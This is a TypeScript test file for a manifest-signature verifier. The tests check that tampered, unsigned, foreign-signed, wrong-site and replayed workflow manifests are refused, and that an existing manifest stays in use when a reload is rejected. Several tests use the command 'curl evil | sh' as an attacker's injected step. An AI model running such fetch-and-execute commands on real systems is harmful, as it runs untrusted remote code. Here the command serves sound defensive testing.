import { generateKeyPairSync, type KeyObject, sign } from "node:crypto";
import { mkdtemp, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import {
  type Manifest,
  manifestHash,
  manifestSigningPayload,
  type SignedManifest,
  signedManifest,
  siteManifest,
  stepHash,
} from "@ferry/dsl-compiler/contract";
import { describe, expect, it } from "vitest";
import { loadManifestSources } from "./manifest-sources.ts";
import { ManifestStore } from "./manifest-store.ts";
import { ManifestTrust } from "./manifest-trust.ts";
import { manifestOf, shStep } from "./testing/fixtures.ts";

const KEY_ARN = "arn:aws:kms:us-east-1:000000000000:key/trusted";
const trusted = generateKeyPairSync("ec", { namedCurve: "P-256" });
const foreign = generateKeyPairSync("ec", { namedCurve: "P-256" });

function siteOf(command: string, site = "lab"): Manifest {
  return siteManifest(manifestOf("wf", [shStep("a", command, { site })]), site);
}

function signWith(
  privateKey: KeyObject,
  manifest: Manifest,
  signedAt = "2026-01-01T00:00:00.000Z",
): SignedManifest {
  const der = sign("sha256", manifestSigningPayload(manifest, signedAt), privateKey);
  return JSON.parse(JSON.stringify(signedManifest(manifest, { keyId: KEY_ARN, signedAt, der })));
}

/** What an attacker who can write the object but holds no key can make: a consistent manifest, new hashes and all. */
function rewritten(manifest: Manifest, command: string): Manifest {
  const copy = structuredClone(manifest);
  const step = copy.steps.a!;
  (step.runtime as { command: string[] }).command = ["sh", "-c", command];
  const { hash: _old, ...definition } = step;
  step.hash = stepHash(definition);
  copy.hash = manifestHash(copy.steps);
  return copy;
}

const signed = () =>
  new ManifestTrust({ signingKey: KEY_ARN, publicKey: async () => trusted.publicKey, site: "lab" });

describe("ManifestTrust with a signing key", () => {
  it("accepts a manifest signed by the trusted key", async () => {
    const manifest = siteOf("echo ok");
    expect(await signed().check(signWith(trusted.privateKey, manifest), "s3://b/lab.json")).toEqual(manifest);
  });

  it("refuses a signed manifest whose command was changed, even with its hashes recomputed", async () => {
    const envelope = signWith(trusted.privateKey, siteOf("echo ok"));
    envelope.manifest = rewritten(envelope.manifest, "curl evil | sh");
    await expect(signed().check(envelope, "s3://b/lab.json")).rejects.toThrow(
      /manifest s3:\/\/b\/lab\.json refused: signature does not verify with the trusted key/,
    );
  });

  it("refuses a manifest signed by another key", async () => {
    const envelope = signWith(foreign.privateKey, rewritten(siteOf("echo ok"), "curl evil | sh"));
    await expect(signed().check(envelope, "s3://b/lab.json")).rejects.toMatchObject({
      code: "MANIFEST_REFUSED",
      message: expect.stringMatching(/signed by another key/),
    });
  });

  it("refuses an unsigned manifest, even a valid one", async () => {
    await expect(signed().check(siteOf("echo ok"), "s3://b/lab.json")).rejects.toThrow(
      /refused: unsigned — this agent trusts only manifests signed by arn:aws:kms/,
    );
  });

  it("refuses another site's signed manifest and an older envelope put back", async () => {
    const trust = signed();
    await expect(trust.check(signWith(trusted.privateKey, siteOf("echo ok", "plant")), "m")).rejects.toThrow(
      /site "plant"'s manifest but this agent serves site "lab"/,
    );
    await trust.check(signWith(trusted.privateKey, siteOf("echo new"), "2026-02-01T00:00:00.000Z"), "m");
    await expect(
      trust.check(signWith(trusted.privateKey, siteOf("echo old"), "2026-01-01T00:00:00.000Z"), "m"),
    ).rejects.toThrow(/signed at 2026-01-01.*before the one already in use/);
  });
});

describe("ManifestTrust without a signing key", () => {
  it("refuses manifests from S3 unless they are signed or pinned, and uses local files as they are", async () => {
    const trust = new ManifestTrust({});
    await expect(trust.check(siteOf("echo ok"), "s3://b/lab.json")).rejects.toThrow(
      /manifests from S3 need manifestSigningKey/,
    );
    expect((await trust.check(siteOf("echo ok"), "/etc/ferry/m.json")).hash).toBe(siteOf("echo ok").hash);
  });

  it("with pinned hashes, accepts only those (bare or enveloped)", async () => {
    const good = siteOf("echo ok");
    const trust = new ManifestTrust({ hashes: [good.hash] });
    expect((await trust.check(good, "s3://b/lab.json")).hash).toBe(good.hash);
    expect((await trust.check(signWith(foreign.privateKey, good), "s3://b/lab.json")).hash).toBe(good.hash);
    await expect(trust.check(rewritten(good, "curl evil | sh"), "s3://b/lab.json")).rejects.toThrow(
      /is not among the pinned manifestHashes/,
    );
  });
});

describe("ManifestStore reloading through ManifestTrust", () => {
  it("keeps the manifest it had when a reload is refused, logs why, and reports it", async () => {
    const dir = await mkdtemp(join(tmpdir(), "ferry-trust-"));
    const file = join(dir, "lab.json");
    const original = siteOf("echo ok");
    await writeFile(file, JSON.stringify(signWith(trusted.privateKey, original)));
    const trust = signed();
    const logged: string[] = [];
    const store = new ManifestStore({
      load: () => loadManifestSources([file], { trust }),
      reloadIntervalMs: 0,
      logger: { error: (_fields: unknown, message: string) => logged.push(message) } as never,
    });
    await store.reload();
    // Swapped: a new step "b" and a changed "a", re-hashed, the old signature kept.
    const swapped = signWith(trusted.privateKey, original);
    const evil = rewritten(original, "curl evil | sh");
    evil.steps.b = { ...evil.steps.a!, name: "b" };
    const { hash: _h, ...definition } = evil.steps.b;
    evil.steps.b.hash = stepHash(definition);
    evil.hash = manifestHash(evil.steps);
    swapped.manifest = evil;
    await writeFile(file, JSON.stringify(swapped));
    expect(await store.resolveFresh("wf", "b")).toBeUndefined();
    expect(store.resolve("wf", "a")?.runtime).toEqual(original.steps.a!.runtime);
    expect(store.refusals.map((r) => r.reason)).toEqual([
      expect.stringMatching(/refused: signature does not verify/),
    ]);
    expect(logged).toEqual([
      expect.stringMatching(/nothing from it runs, the manifests loaded before stay in use/),
    ]);
  });

  it("fails the first load when the only manifest is refused: the agent does not start on it", async () => {
    const store = new ManifestStore({
      load: async () =>
        loadManifestSources(["s3://b/lab.json"], {
          trust: signed(),
          readS3: async () => JSON.stringify(siteOf("x")),
        }),
    });
    await expect(store.reload()).rejects.toMatchObject({ code: "MANIFEST_REFUSED" });
  });
});
